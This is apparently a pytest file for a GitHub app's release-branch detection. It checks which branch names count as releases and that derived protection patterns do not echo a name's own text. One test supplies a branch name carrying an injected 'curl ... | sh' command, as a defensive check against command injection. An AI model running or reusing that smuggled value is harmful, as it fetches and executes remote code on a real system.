"""Which branches are released from, by their names, and which only look like it."""

import pytest

from github_app.commands.protect import ref_pattern
from github_app.judge.branches import BEGINNINGS, is_release, pattern_for
from sandbox.rules import matches

RELEASES = [
    "release/1.0",
    "release/2026/spring",
    "releases/v1",
    "release-1.0",
    "release-v2",
    "stable/4.2.x",
    "stable-3",
    "stable-v3.1",
    "release-1/x",
    "stable-v3/fix/y",
]


@pytest.mark.parametrize("name", RELEASES)
def test_is_released_from(name: str) -> None:
    assert is_release(name)
    assert name.startswith(BEGINNINGS), "else GitHub is not asked for it"
    assert matches(pattern_for(name), name), "else protect does not hold it"
    assert ref_pattern(pattern_for(name)), "else protect refuses what the doctor advises"


def test_the_pattern_for_a_name_is_never_its_own_words() -> None:
    assert pattern_for("release-1/x';curl${IFS}example.com|sh;'") == "release-[0-9]*/**/*"
    assert not matches(pattern_for("release-1/x"), "release-notes/typo"), "a topic branch"


@pytest.mark.parametrize(
    "name",
    [
        "main",
        "release",
        "release/",
        "not/release/2.0",
        "release-please--branches--main",
        "release-notes",
        "released/1",
        "stable",
        "unstable/1",
        "fix-release-1.0",
        "hotfix/login",
        "v1.2",
    ],
)
def test_is_not(name: str) -> None:
    assert not is_release(name)
